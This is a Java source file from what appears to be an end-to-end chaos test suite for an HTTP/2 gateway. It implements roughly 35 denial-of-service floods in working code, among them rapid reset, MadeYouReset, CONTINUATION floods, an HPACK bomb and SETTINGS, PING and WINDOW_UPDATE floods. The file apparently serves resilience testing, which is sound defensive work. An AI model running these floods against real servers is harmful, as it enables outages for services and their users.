package io.sigma.e2e.chaos;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Frames of HTTP/2 that cost more than they say. */
final class Http2Floods {

    private static final int CONNECTIONS = 10;
    private static final int FRAMES_AT_ONCE = 1_000;
    private static final int CANCEL = 8;

    private Http2Floods() {}

    static List<Attack> all() {
        return List.of(
                Attack.of("rapid-reset", CONNECTIONS, Http2Floods::rapidReset),
                Attack.of("made-you-reset", CONNECTIONS, Http2Floods::madeYouReset),
                Attack.of("made-you-reset-by-data", CONNECTIONS, Http2Floods::dataAfterEnd),
                Attack.of("continuation-flood", CONNECTIONS, attacker -> continuation(attacker, 1_000)),
                Attack.of("empty-continuation-flood", CONNECTIONS, attacker -> continuation(attacker, 0)),
                flood("settings-flood", Frames.settings()),
                flood(
                        "settings-window-flood",
                        Frames.join(
                                Frames.settings(Frames.INITIAL_WINDOW_SIZE, 1),
                                Frames.settings(Frames.INITIAL_WINDOW_SIZE, 0))),
                flood(
                        "settings-table-flood",
                        Frames.join(
                                Frames.settings(Frames.HEADER_TABLE_SIZE, 0),
                                Frames.settings(Frames.HEADER_TABLE_SIZE, 4096))),
                flood("settings-long-flood", Frames.settings(new int[4_000])),
                flood("settings-ack-flood", Frames.frame(Frames.SETTINGS, Frames.ACK, 0)),
                flood("ping-flood", Frames.frame(Frames.PING, 0, 0, new byte[8])),
                flood("ping-ack-flood", Frames.frame(Frames.PING, Frames.ACK, 0, new byte[8])),
                Attack.of("ping-flood-unread", CONNECTIONS, Http2Floods::pingUnread),
                flood("window-update-flood", Frames.windowUpdate(0, 1)),
                streamFlood("window-update-of-streams-flood", Frames.windowUpdate(1, 1)),
                flood("unknown-frames-flood", Frames.frame(0x42, 0xff, 0)),
                flood("unknown-long-frames-flood", Frames.frame(0x42, 0xff, 0, new byte[16_384])),
                streamFlood("unknown-frames-of-streams-flood", Frames.frame(0x42, 0xff, 1, new byte[8])),
                flood("priority-flood", Frames.frame(Frames.PRIORITY, 0, 3, new byte[5])),
                flood("priority-update-flood", Frames.frame(0x10, 0, 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1)),
                streamFlood("empty-data-flood", Frames.frame(Frames.DATA, 0, 1)),
                streamFlood("padded-data-flood", Frames.frame(Frames.DATA, Frames.PADDED, 1, padding())),
                flood("reset-flood", Frames.frame(Frames.RST_STREAM, 0, 1, Frames.int32(CANCEL))),
                flood("goaway-flood", Frames.frame(Frames.GOAWAY, 0, 0, new byte[8])),
                flood("push-promise-flood", Frames.frame(Frames.PUSH_PROMISE, Frames.END_HEADERS, 1, new byte[8])),
                Attack.of("hpack-bomb", CONNECTIONS, Http2Floods::hpackBomb),
                Attack.of("hpack-table-churn", CONNECTIONS, Http2Floods::hpackChurn),
                Attack.of("empty-names", CONNECTIONS, attacker -> heads(attacker, Frames.times(2_000, new byte[3]))),
                Attack.of(
                        "many-fields-h2",
                        CONNECTIONS,
                        attacker -> heads(attacker, Frames.times(90, Frames.fields("a", "b")))),
                Attack.of(
                        "crumbled-cookies",
                        CONNECTIONS,
                        attacker -> heads(attacker, Frames.times(1_000, Frames.fields("cookie", "a=b")))),
                Attack.of("refused-heads", CONNECTIONS, attacker -> heads(attacker, Frames.fields("UPPER", "case"))),
                Attack.of("many-requests-h2", CONNECTIONS, attacker -> heads(attacker)),
                Attack.of("streams-beyond-the-limit", CONNECTIONS, Http2Floods::streamsBeyond),
                Attack.of("frame-too-long", CONNECTIONS, Http2Floods::frameTooLong),
                Attack.of("http2-by-bytes", CONNECTIONS, Http2Floods::byBytes));
    }

    private static byte[] padding() {
        byte[] padded = new byte[256];
        padded[0] = (byte) 255;
        return padded;
    }

    private static Attack flood(String name, byte[] frame) {
        return Attack.of(name, CONNECTIONS, attacker -> again(attacker.http2().drained(), attacker, frame));
    }

    /** A flood on the first stream, whose request never ends. */
    private static Attack streamFlood(String name, byte[] frame) {
        return Attack.of(name, CONNECTIONS, attacker -> {
            Wire wire = attacker.http2().drained();
            wire.send(Frames.post(1, "/echo"));
            again(wire, attacker, frame);
        });
    }

    private static void again(Wire wire, Attacker attacker, byte... frame) throws IOException {
        byte[] many = Frames.times(Math.max(1, Math.min(FRAMES_AT_ONCE, 65_536 / frame.length)), frame);
        while (!attacker.over()) {
            wire.send(many);
        }
    }

    private static void pingUnread(Attacker attacker) throws IOException {
        again(attacker.http2(), attacker, Frames.frame(Frames.PING, 0, 0, new byte[8]));
    }

    private static void rapidReset(Attacker attacker) throws IOException {
        Wire wire = attacker.http2().drained();
        for (int stream = 1; !attacker.over(); stream += 2) {
            wire.send(Frames.join(
                    Frames.get(stream, "/medium"), Frames.frame(Frames.RST_STREAM, 0, stream, Frames.int32(CANCEL))));
        }
    }

    /** An increment of zero makes the gateway reset the stream. */
    private static void madeYouReset(Attacker attacker) throws IOException {
        Wire wire = attacker.http2().drained();
        for (int stream = 1; !attacker.over(); stream += 2) {
            wire.send(Frames.join(Frames.get(stream, "/medium"), Frames.windowUpdate(stream, 0)));
        }
    }

    private static void dataAfterEnd(Attacker attacker) throws IOException {
        Wire wire = attacker.http2().drained();
        for (int stream = 1; !attacker.over(); stream += 2) {
            wire.send(Frames.join(Frames.get(stream, "/medium"), Frames.frame(Frames.DATA, 0, stream, (byte) 'x')));
        }
    }

    private static void continuation(Attacker attacker, int bytes) throws IOException {
        Wire wire = attacker.http2().drained();
        wire.send(Frames.frame(Frames.HEADERS, 0, 1, Frames.head("GET", "/small")));
        again(
                wire,
                attacker,
                Frames.frame(Frames.CONTINUATION, 0, 1, Frames.times(bytes / 10, Frames.fields("x-abc", "def"))));
    }

    /** One large entry of the table, named thousands of times by a byte each. */
    private static void hpackBomb(Attacker attacker) throws IOException {
        Wire wire = attacker.http2().drained();
        byte[] entry = Frames.indexed("x-bomb", "b".repeat(4_000));
        byte[] references = Frames.times(8_000, (byte) 0xbe);
        for (int stream = 1; !attacker.over(); stream += 2) {
            byte[] block = Frames.join(Frames.head("GET", "/small"), entry, references);
            wire.send(Frames.frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, stream, block));
        }
    }

    /** Fields that push each other out of the table. */
    private static void hpackChurn(Attacker attacker) throws IOException {
        byte[] block = new byte[0];
        for (int i = 0; i < 90; i++) {
            block = Frames.join(block, Frames.indexed("x-" + i, "v".repeat(60)));
        }
        heads(attacker, block);
    }

    private static void heads(Attacker attacker, byte... fields) throws IOException {
        Wire wire = attacker.http2().drained();
        byte[] block = Frames.join(Frames.head("GET", "/small"), fields);
        for (int stream = 1; !attacker.over(); stream += 2) {
            wire.send(Frames.frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, stream, block));
        }
    }

    private static void streamsBeyond(Attacker attacker) throws IOException {
        Wire wire = attacker.http2().drained();
        for (int stream = 1; !attacker.over(); stream += 2) {
            wire.send(Frames.post(stream, "/echo"));
        }
    }

    private static void frameTooLong(Attacker attacker) throws IOException {
        again(attacker.http2().drained(), attacker, Frames.frame(Frames.DATA, 0, 1, new byte[1_000_000]));
    }

    private static void byBytes(Attacker attacker) throws IOException {
        Wire wire = attacker.http2().drained();
        for (int stream = 1; !attacker.over(); stream += 2) {
            wire.sendByBytes(new String(Frames.get(stream, "/small"), StandardCharsets.ISO_8859_1));
        }
    }
}
